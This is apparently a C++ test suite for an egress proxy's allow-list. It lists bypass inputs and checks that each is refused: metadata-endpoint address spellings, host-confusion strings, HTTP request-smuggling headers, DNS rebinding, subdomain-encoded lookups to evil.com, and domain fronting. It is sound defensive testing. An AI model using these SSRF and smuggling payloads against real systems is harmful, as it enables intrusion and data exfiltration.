// Ways around an allow-list, one by one. Nothing is resolved or dialled that the rules do not allow.
#include <algorithm>

#include "egress/dns.h"
#include "egress/proxy_harness.h"

namespace atl::egress {
namespace {

Address address(std::string_view text) {
  return Address::parse(text).value();
}

struct Bypass : ProxyTest {
  Bypass() { outside.names["good.com"] = {address("1.1.1.1")}; }

  bool was_refused(std::string_view reason_part) const {
    return std::ranges::any_of(attempts, [&](const Attempt& attempt) {
      return !attempt.allowed && attempt.reason.find(reason_part) != std::string::npos;
    });
  }
  std::shared_ptr<const Rules> rules(RuleTexts texts) {
    return std::make_shared<const Rules>(
        Rules::compile(texts, InternalAddresses::all_opened(nullptr)).value());
  }
  std::string ask(const std::string& query) {
    std::string answer;
    auto run = [](Proxy& to, std::string question, std::string& out) -> asio::awaitable<void> {
      auto got = co_await to.answer(std::move(question));
      if (got) out = *got;
    };
    asio::co_spawn(loop, run(*proxy, query, answer), asio::detached);
    loop.restart();
    loop.run();
    return answer;
  }
  static std::string query(const std::string& name, char type = 1) {
    std::string wire = "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"s;
    for (std::size_t at = 0; at <= name.size();) {
      const auto dot = std::min(name.find('.', at), name.size());
      wire += static_cast<char>(dot - at);
      wire += name.substr(at, dot - at);
      at = dot + 1;
    }
    return wire + "\0\0"s + type + "\0\x01"s;
  }
  static int code(const std::string& answer) { return answer.size() < 12 ? -1 : answer[3] & 15; }
  static int answers(const std::string& answer) { return answer.size() < 12 ? -1 : answer[7]; }
};

TEST_F(Bypass, MetadataAndLoopbackInEverySpelling) {
  use({.allow = {"*"}});
  for (const auto* host : {"169.254.169.254",
                           "[fd00:ec2::254]",
                           "100.100.100.200",
                           "[::ffff:169.254.169.254]",
                           "2852039166",
                           "0xa9fea9fe",
                           "0251.0376.0251.0376",
                           "0xa9.254.0251.254",
                           "169.254.43518",
                           "169.254.169.254.",
                           "[::ffff:a9fe:a9fe]",
                           "[64:ff9b::a9fe:a9fe]",
                           "127.0.0.1",
                           "127.1",
                           "0",
                           "0.0.0.0",
                           "[::1]",
                           "[::]",
                           "localhost.",
                           "10.0.0.1",
                           "192.168.0.1",
                           "[fe80::1]",
                           "[2002:7f00:1::]"}) {
    outside.names["localhost"] = {address("127.0.0.1")};
    const auto answer = talk({"GET http://"s + host + "/latest/meta-data HTTP/1.1\r\n\r\n"});
    EXPECT_TRUE(answer.starts_with("HTTP/1.1 403")) << host << ": " << answer;
  }
  EXPECT_TRUE(outside.dialled.empty());
  EXPECT_TRUE(was_refused("internal address"));
}

TEST_F(Bypass, NamesThatTwoReadersReadDifferently) {
  use({.allow = {"good.com", "*.good.com"}});
  for (const auto& host :
       {"evil.com\0.good.com"s, "evil.com#.good.com"s, "good.com@evil.com"s, "evil.com\\.good.com"s,
        "evil.com%00.good.com"s, "evil.com\t.good.com"s, "evil.com/.good.com"s, "good.com:80@evil.com"s,
        "\xc7\xb9ood.com"s, "evil.com?.good.com"s, "evil.com..good.com"s, ".good.com"s}) {
    const auto answer = talk({"CONNECT " + host + ":443 HTTP/1.1\r\n\r\n"});
    EXPECT_TRUE(answer.starts_with("HTTP/1.1 4")) << host << ": " << answer;
    const auto socks =
        talk({"\x05\x01\x00"s, "\x05\x01\x00\x03"s + static_cast<char>(host.size()) + host + "\x01\xbb"s});
    EXPECT_NE(socks.substr(2, 2), "\x05\x00"s) << host;
  }
  for (const auto& url : {"http://good.com@evil.com/"s, "http://evil.com\\@good.com/"s, "http://[good.com]/"s,
                          "http:///good.com"s, "ftp://good.com/"s, "http://good.com:0/"s}) {
    EXPECT_TRUE(talk({"GET " + url + " HTTP/1.1\r\n\r\n"}).starts_with("HTTP/1.1 4")) << url;
  }
  EXPECT_TRUE(outside.dialled.empty());
  for (const auto& name : outside.resolved) EXPECT_EQ(name, "good.com");
}

TEST_F(Bypass, ATunnelToAnAddressNeedsARuleForTheAddress) {
  use({.allow = {"good.com"}});
  EXPECT_TRUE(talk({"CONNECT 1.1.1.1:443 HTTP/1.1\r\n\r\n", hello("good.com")}).starts_with("HTTP/1.1 403"));
  use({.allow = {"1.1.1.0/24:443"}});
  EXPECT_TRUE(talk({"CONNECT 1.1.1.1:443 HTTP/1.1\r\n\r\n", "x"}).starts_with("HTTP/1.1 200"));
  EXPECT_TRUE(talk({"CONNECT 1.1.1.1:444 HTTP/1.1\r\n\r\n", "x"}).starts_with("HTTP/1.1 403"));
}

TEST_F(Bypass, ARangeDoesNotMakeNamesResolvable) {
  use({.allow = {"10.0.0.0/8", "1.1.1.1"}});
  outside.names["secret-data.evil.com"] = {address("10.0.0.7")};
  EXPECT_TRUE(talk({"CONNECT secret-data.evil.com:443 HTTP/1.1\r\n\r\n"}).starts_with("HTTP/1.1 403"));
  EXPECT_EQ(code(ask(query("secret-data.evil.com"))), 3);
  // Everything, except everything: only what is named.
  use({.allow = {"*", "good.com"}, .deny = {"0.0.0.0/0"}});
  EXPECT_TRUE(talk({"CONNECT secret-data.evil.com:443 HTTP/1.1\r\n\r\n"}).starts_with("HTTP/1.1 403"));
  EXPECT_EQ(code(ask(query("secret-data.evil.com"))), 3);
  EXPECT_TRUE(outside.resolved.empty());
}

TEST_F(Bypass, TlsMustNameTheHostOnEveryPort) {
  use({.allow = {"good.com"}});
  for (const auto* port : {"443", "8443"}) {
    const auto head = "CONNECT good.com:"s + port + " HTTP/1.1\r\n\r\n";
    talk({head, hello("other.com") + "rest"});
    talk({head, hello("") + "rest"});
    EXPECT_EQ(outside.received, "") << port;
    EXPECT_TRUE(was_refused("TLS names another host"));
    talk({head, hello("good.com.") + "rest"});
    EXPECT_TRUE(outside.received.ends_with("rest")) << port;
    outside.received.clear();
  }
}

TEST_F(Bypass, AnEncryptedHelloHidesTheHost) {
  const auto encrypted = hello("good.com", "\xfe\x0d\x00\x02xx"s);
  use({.allow = {"good.com"}});
  talk({"CONNECT good.com:443 HTTP/1.1\r\n\r\n", encrypted});
  EXPECT_EQ(outside.received, "");
  EXPECT_TRUE(was_refused("encrypted"));
  // Where everything is allowed there is nothing to hide.
  use({.allow = {"*"}});
  talk({"CONNECT good.com:443 HTTP/1.1\r\n\r\n", encrypted});
  EXPECT_EQ(outside.received, encrypted);
}

TEST_F(Bypass, PlainHttpInATunnelMustNameTheHostToo) {
  use({.allow = {"good.com"}});
  auto answer = talk({"CONNECT good.com:80 HTTP/1.1\r\n\r\n", "GET / HTTP/1.1\r\nHost: fronted.com\r\n\r\n"});
  EXPECT_NE(answer.find("HTTP/1.1 400"), std::string::npos) << answer;
  EXPECT_TRUE(outside.dialled.empty());
  answer = talk({"CONNECT good.com:80 HTTP/1.1\r\n\r\n",
                 "GET /a HTTP/1.1\r\nHost: good.com\r\n\r\nGET /b HTTP/1.1\r\nHost: fronted.com\r\n\r\n"});
  EXPECT_TRUE(answer.ends_with("hi")) << answer;
  EXPECT_EQ(outside.received.find("fronted.com"), std::string::npos);
  EXPECT_EQ(outside.received.find("/b"), std::string::npos);
}

TEST_F(Bypass, RequestsThatHideAnother) {
  use({.allow = {"good.com"}});
  for (const auto* head : {
           "POST http://good.com/ HTTP/1.1\r\nContent-Length: 5\r\nTransfer-Encoding: "
           "chunked\r\n\r\n0\r\n\r\nG",
           "POST http://good.com/ HTTP/1.1\r\nContent-Length: +5\r\n\r\nhello",
           "POST http://good.com/ HTTP/1.1\r\nContent-Length: 0x5\r\n\r\nhello",
           "POST http://good.com/ HTTP/1.1\r\nTransfer-Encoding: xchunked\r\n\r\n",
           "POST http://good.com/ HTTP/1.1\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: "
           "identity\r\n\r\n",
           "POST http://good.com/ HTTP/1.1\r\nContent-Length : 5\r\n\r\nhello",
           "POST http://good.com/ HTTP/1.1\r\nX: y\r\n\tContent-Length: 5\r\n\r\nhello",
           "POST http://good.com/ HTTP/1.1\r\nX: y\nContent-Length: 5\r\n\r\nhello",
           "GET http://good.com/ HTTP/1.1 HTTP/1.1\r\n\r\n",
           "GET  http://good.com/ HTTP/1.1\r\n\r\n",
           "GET http://good.com/\x01 HTTP/1.1\r\n\r\n",
       }) {
    EXPECT_TRUE(talk({head}).starts_with("HTTP/1.1 400")) << head;
  }
  EXPECT_TRUE(outside.dialled.empty());
  talk({"POST http://good.com/ HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n"});
  talk({"POST http://good.com/ HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nabc\r\n0\r\n\r\n"});
  EXPECT_EQ(outside.received.find("abc"), std::string::npos) << outside.received;
}

TEST_F(Bypass, ANameThatResolvesElsewhereTheSecondTime) {
  use({.allow = {"rebind.com"}});
  outside.names["rebind.com"] = {address("1.1.1.1")};
  EXPECT_TRUE(talk({"CONNECT rebind.com:8080 HTTP/1.1\r\n\r\n", "x"}).starts_with("HTTP/1.1 200"));
  outside.names["rebind.com"] = {address("169.254.169.254"), address("::ffff:127.0.0.1")};
  EXPECT_TRUE(talk({"CONNECT rebind.com:8080 HTTP/1.1\r\n\r\n", "x"}).starts_with("HTTP/1.1 403"));
  EXPECT_EQ(outside.dialled, std::vector{"1.1.1.1:8080"s});
}

TEST_F(Bypass, RulesThatChangeWhileANameIsResolved) {
  use({.allow = {"good.com"}});
  outside.before_resolved = [&] { proxy->set_rules(rules({.allow = {"other.com"}})); };
  EXPECT_TRUE(talk({"CONNECT good.com:8080 HTTP/1.1\r\n\r\n", "x"}).starts_with("HTTP/1.1 403"));
  EXPECT_TRUE(outside.dialled.empty());
}

TEST_F(Bypass, RulesThatChangeWhileAConnectionIsDialled) {
  use({.allow = {"good.com"}});
  outside.before_connected = [&] { proxy->set_rules(rules({.allow = {"other.com"}})); };
  EXPECT_EQ(talk({"CONNECT good.com:8080 HTTP/1.1\r\n\r\n", "x"}), "");
  EXPECT_EQ(outside.received, "");
  EXPECT_EQ(proxy->open_connections(), 0U);
  EXPECT_TRUE(was_refused("cut"));
}

TEST_F(Bypass, LookupsOfAllowedNamesOnly) {
  use({.allow = {"good.com:443", "*.wild.com", "inside.corp", "10.1.0.0/16"}, .deny = {"bad.wild.com"}});
  outside.names["a.wild.com"] = {address("2.2.2.2"), address("2606:4700::1")};
  outside.names["inside.corp"] = {address("10.1.2.3"), address("10.9.9.9")};
  EXPECT_EQ(answers(ask(query("GOOD.com"))), 1);
  EXPECT_EQ(answers(ask(query("a.wild.com"))), 1);
  EXPECT_EQ(answers(ask(query("a.wild.com", 28))), 1);
  // Addresses that could not be dialled are not told.
  EXPECT_EQ(answers(ask(query("inside.corp"))), 1);
  const auto before = outside.resolved.size();
  for (const auto* name :
       {"bad.wild.com", "wild.com", "0123456789abcdef.evil.com", "localhost", "evil.good.com"})
    EXPECT_EQ(code(ask(query(name))), 3) << name;
  // Texts and the like are answered with nothing, and nobody is asked.
  for (const char type : {2, 5, 15, 16, 33, 65}) EXPECT_EQ(answers(ask(query("good.com", type))), 0);
  EXPECT_EQ(outside.resolved.size(), before);
  EXPECT_EQ(code(ask(query("nowhere.wild.com"))), 3);
  const auto logged = std::ranges::find(attempts, "0123456789abcdef.evil.com", &Attempt::host);
  ASSERT_NE(logged, attempts.end());
  EXPECT_EQ(logged->port, 53);
  EXPECT_FALSE(logged->allowed);
}

TEST_F(Bypass, NothingIsLookedUpWithoutRules) {
  use({});
  EXPECT_EQ(code(ask(query("good.com"))), 3);
  EXPECT_TRUE(outside.resolved.empty());
}

TEST_F(Bypass, AServerMaySpeakFirst) {
  use({.allow = {"good.com:22"}});
  outside.greeting = "SSH-2.0-x\r\n";
  const auto answer = talk({"CONNECT good.com:22 HTTP/1.1\r\n\r\n", "SSH-2.0-y\r\n"});
  EXPECT_NE(answer.find("SSH-2.0-x"), std::string::npos) << answer;
  EXPECT_EQ(outside.received, "SSH-2.0-y\r\n");
}

TEST_F(Bypass, SecretsGoToTheirServerOnly) {
  secrets->values["token"] = "s3cret-value";
  use({.allow = {"*", "127.0.0.1"},
       .inject = {{"good.com", {{"Authorization", "Bearer ${secrets.token}"}}}}});
  outside.names["other.com"] = {address("1.1.1.2")};
  // A placeholder that a program sends itself is text like any other.
  talk(
      {"POST http://other.com/?q=${secrets.token} HTTP/1.1\r\nX: ${secrets.token}\r\nContent-Length: "
       "3\r\n\r\n$a{"});
  EXPECT_EQ(outside.received.find("s3cret"), std::string::npos);
  EXPECT_TRUE(secrets->asked.empty());
  // Never in the clear over the internet.
  const auto answer = talk({"GET http://good.com/ HTTP/1.1\r\n\r\n"});
  EXPECT_TRUE(answer.starts_with("HTTP/1.1 403")) << answer;
  EXPECT_TRUE(secrets->asked.empty());
  EXPECT_TRUE(was_refused("use https"));
}

TEST_F(Bypass, SecretsThatAServerSendsBackAreCovered) {
  secrets->values["token"] = "s3cret-value";
  use({.allow = {"*", "10.0.0.1"}, .inject = {{"*.corp", {{"X-Key", "k ${secrets.token}"}}}}});
  outside.names["api.corp"] = {address("10.0.0.1")};
  outside.answer = "HTTP/1.1 200 OK\r\nX-Echo: s3cret-value\r\nContent-Length: 12\r\n\r\ns3cret-value";
  const auto answer =
      talk({"GET http://api.corp/ HTTP/1.1\r\nX-Key: guess\r\nAccept-Encoding: gzip\r\n\r\n"});
  EXPECT_NE(outside.received.find("X-Key: k s3cret-value\r\n"), std::string::npos);
  EXPECT_EQ(outside.received.find("gzip"), std::string::npos);
  EXPECT_EQ(answer, "HTTP/1.1 200 OK\r\nX-Echo: ************\r\nContent-Length: 12\r\n\r\n************");
}

TEST_F(Bypass, AMissingSecretEndsTheRequest) {
  use({.allow = {"10.0.0.1"}, .inject = {{"10.0.0.1", {{"X-Key", "${secrets.gone}"}}}}});
  const auto answer = talk({"GET http://10.0.0.1/ HTTP/1.1\r\n\r\n"});
  EXPECT_TRUE(answer.starts_with("HTTP/1.1 502")) << answer;
  EXPECT_EQ(outside.received, "");
  EXPECT_TRUE(was_refused("no secret 'gone'"));
}

TEST_F(Bypass, WebSocketsAreSwitchedByTheServerOnly) {
  use({.allow = {"good.com"}});
  outside.answer = "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n";
  const auto head =
      "GET http://good.com/ws HTTP/1.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
      "Sec-WebSocket-Key: abc\r\n\r\n"s;
  talk({head, "frames"});
  EXPECT_NE(outside.received.find("Upgrade: websocket\r\n"), std::string::npos);
  EXPECT_TRUE(outside.received.ends_with("frames")) << outside.received;
  outside.received.clear();
  outside.answer = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nno";
  talk({head, "GET /smuggled HTTP/1.1\r\nHost: other.com\r\n\r\n"});
  EXPECT_EQ(outside.received.find("smuggled"), std::string::npos);
  EXPECT_TRUE(talk({"POST http://good.com/ws HTTP/1.1\r\nUpgrade: websocket\r\nContent-Length: 1\r\n\r\nx"})
                  .starts_with("HTTP/1.1 400"));
}

TEST_F(Bypass, SecretsInAWebSocketAreCoveredToo) {
  secrets->values["token"] = "s3cret-value";
  use({.allow = {"*", "10.0.0.1"}, .inject = {{"api.corp", {{"X-Key", "${secrets.token}"}}}}});
  outside.names["api.corp"] = {address("10.0.0.1")};
  outside.answer = "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n\x81\x0cs3cret-value";
  const auto answer =
      talk({"GET http://api.corp/ HTTP/1.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
            "${secrets.token}"});
  EXPECT_NE(outside.received.find("X-Key: s3cret-value\r\n"), std::string::npos);
  EXPECT_TRUE(outside.received.ends_with("${secrets.token}")) << outside.received;
  EXPECT_TRUE(answer.ends_with("\x81\x0c************")) << answer;
}

// Without such a rule nobody reads what is said inside TLS; with one the request must be for the tunnel's
// host.
TEST_F(Bypass, AHeaderRuleClosesFronting) {
  auto authority = Authority::create().value();
  use({.allow = {"good.com"}, .inject = {{"good.com", {{"X-Key", "v"}}}}}, authority.get());
  TrustingClient client(*authority);
  for (const auto* host : {"fronted.com", "good.com.fronted.com", "1.1.1.1", "good.com@fronted.com"}) {
    const auto answer = client.ask(loop, *proxy, "good.com", "GET / HTTP/1.1\r\nHost: "s + host + "\r\n\r\n");
    EXPECT_TRUE(answer.starts_with("HTTP/1.1 400")) << host << ": " << answer;
  }
  EXPECT_TRUE(outside.dialled.empty());
  EXPECT_TRUE(was_refused("names another host"));
  const auto answer = client.ask(loop, *proxy, "good.com", "GET https://fronted.com/ HTTP/1.1\r\n\r\n");
  EXPECT_TRUE(answer.starts_with("HTTP/1.1 400")) << answer;
  EXPECT_TRUE(outside.dialled.empty());
}

TEST_F(Bypass, WithoutAnAuthorityHeadersAreNotLeftOut) {
  use({.allow = {"good.com"}, .inject = {{"good.com", {{"X", "v"}}}}});
  EXPECT_TRUE(talk({"CONNECT good.com:443 HTTP/1.1\r\n\r\n", hello("good.com")}).starts_with("HTTP/1.1 403"));
  EXPECT_EQ(talk({"\x05\x01\x00"s, "\x05\x01\x00\x03\x08good.com\x01\xbb"s}).substr(2, 2), "\x05\x02"s);
  EXPECT_TRUE(outside.dialled.empty());
}

}  // namespace
}  // namespace atl::egress
